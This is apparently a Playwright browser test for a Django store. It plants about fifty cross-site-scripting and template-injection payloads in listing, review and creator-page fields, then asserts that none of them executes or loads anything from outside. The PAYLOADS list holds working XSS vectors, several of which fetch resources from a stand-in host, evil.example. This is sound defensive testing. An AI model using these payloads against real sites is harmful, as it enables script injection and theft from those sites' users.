"""Markup in every field of a listing, a review and a creator's page: nothing runs, nothing loads from outside."""

from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from django.db.models import F
from playwright.sync_api import Dialog, Page, Request

from accounts.actions.grant_staff import grant_staff
from accounts.staff import Staff
from kernel.tenancy import across_organisations, tenant_scope
from organisations.actors import Actor
from store.actions.decide_case import decide_case
from store.models import Case, CreatorPage, Listing
from store.moderation.outcomes import Verdict
from tests.browser.looking import glance
from tests.factories.organisations import make_user
from tests.factories.reviews import make_review
from tests.factories.store import make_listing
from tests.fixtures.live import NewContext, Site

pytestmark = pytest.mark.browser
RUN = "window.ran=1"
# One of each way in: elements, attributes, addresses, styles, comments, templates, entities, other namespaces, broken ones.
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    "<script src=//evil.example/x></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT>{RUN}//<</SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f"<img src=//evil.example/p.png onload={RUN}>",
    f"<img/src/onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
    f'" style="animation:x" onanimationstart="{RUN}',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mi//xlink:href='javascript:{RUN}'>x",
    f"<math><mtext></form><mglyph><style><img src onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>">',
    "<iframe src=//evil.example></iframe>",
    f"<object data=javascript:{RUN}>",
    "<embed src=//evil.example/e.swf>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<style>@import '//evil.example/i.css';</style>",
    "<style>*{background:url(//evil.example/b)}</style>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<form action=javascript:{RUN}><button autofocus>x",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    "![x](https://evil.example/m.png)",
    "{{ 7*7 }}{% load static %}${7*7}",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<x hx-get=//evil.example hx-trigger=load hx-on::load={RUN}>",
    f"<x x-data x-init={RUN} onclick={RUN} _='on load'>",
)
ALL = " ".join(PAYLOADS)
HALF = len(PAYLOADS) // 2


@pytest.fixture
def mallory(site: Site) -> Actor:
    actor = site.person("mallory@example.org")
    assert actor.user is not None
    actor.user.name = PAYLOADS[11]
    actor.user.save(update_fields=["name"])
    return actor


def marked_up(mallory: Actor, number: int) -> Listing:
    """A live listing whose every field is a payload, or all of them where there is room."""
    name, tagline = f"{number} {PAYLOADS[number]}"[:80], PAYLOADS[number + HALF][:120]
    return make_listing(mallory, name, tagline=tagline, description=ALL[:4000], statements=ALL[:4000])


def approve_what_waits() -> None:
    make_user("mo@staff.example", name="Mo")
    mo = Staff(grant_staff(email="mo@staff.example", role="moderator"))
    with across_organisations(reason="test"):
        waiting = [case.public_id for case in Case.unscoped.filter(state="open", kind="submission")]
    for case in waiting:
        decide_case(staff=mo, case_id=case, verdict=Verdict("approve"))


def test_nothing_runs_and_nothing_loads(
    site: Site, mallory: Actor, new_context: NewContext, settings: Any
) -> None:
    assert len(PAYLOADS) == 50
    listings = [marked_up(mallory, number) for number in range(HALF)]
    approve_what_waits()
    with tenant_scope(mallory.organisation):
        CreatorPage.unscoped.update_or_create(
            organisation=mallory.organisation,
            defaults={
                "handle": "mallory",
                "name": PAYLOADS[0][:120],
                "about": ALL[:2000],
                "links": [{"label": PAYLOADS[14], "url": "https://mallory.example/"}],
                "picture_seed": PAYLOADS[19][:64],
                "is_public": True,
            },
        )
        sample = [{"role": "user", "text": ALL}, {"role": "assistant", "text": ALL}]
        Listing.objects.for_organisation(mallory.organisation).update(
            sample=sample, topics=ALL, trend=F("id")
        )
    for listing in listings[:3]:
        made = make_review(listing, 1, ALL[:2000])
        with tenant_scope(mallory.organisation):
            type(made).objects.for_organisation(mallory.organisation).update(reply=ALL[:2000])
    page = new_context(viewport={"width": 1280, "height": 900}).new_page()
    outside, dialogs = watched(page, site)
    slugs = [listing.publication.slug for listing in listings]
    addresses = [
        "/",
        f"/store/search?search={quote(PAYLOADS[0])}",
        f"/store/search?search={quote(ALL[:200])}&category=work",
        *(f"/store/search?search={number}" for number in (1, 2)),
        "/store/category/work",
        "/creators/mallory",
        *(f"/a/{slug}" for slug in slugs[::4]),
        *(f"/a/{slug}/{part}" for slug in slugs[:2] for part in ("disclosure", "reviews")),
    ]
    for address in addresses:
        visit(page, address)
    mine = new_context(person="mallory@example.org").new_page()
    more_outside, more_dialogs = watched(mine, site)
    with tenant_scope(mallory.organisation):
        assistants = [one.publication.assistant_public_id for one in listings[:2]]
    for address in ("/", "/directory/", "/library", *(f"/build/{one}/publish" for one in assistants)):
        visit(mine, address)
    assert outside + more_outside == []
    assert dialogs + more_dialogs == []


def watched(page: Page, site: Site) -> tuple[list[str], list[str]]:
    """What the page asks of others, and what it says in dialogs, from now on."""
    outside: list[str] = []
    dialogs: list[str] = []
    ours = urlsplit(site.url).netloc

    def asked(request: Request) -> None:
        if urlsplit(request.url).scheme in ("http", "https") and urlsplit(request.url).netloc != ours:
            outside.append(request.url)

    def said(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("request", asked)
    page.on("dialog", said)
    return outside, dialogs


def visit(page: Page, address: str) -> None:
    """Open a page, and see that it stayed there, shows what was written as it was written, and ran nothing."""
    response = page.goto(address)
    assert response is not None and response.status < 400, f"{address}: {response and response.status}"
    glance(page)
    assert page.evaluate("window.ran") is None, address
    assert urlsplit(page.url).path == urlsplit(address).path, page.url
    strange = page.evaluate(
        """() => [...document.querySelectorAll("main *")].filter(one =>
            one.matches("iframe, object, embed, base, marquee, math, audio, video, meta:not([itemprop]), link[rel=stylesheet], style")
            || [...one.attributes].some(a => a.name.startsWith("on") || /^\\s*javascript:/i.test(a.value))
        ).map(one => one.outerHTML.slice(0, 160))"""
    )
    assert strange == [], address
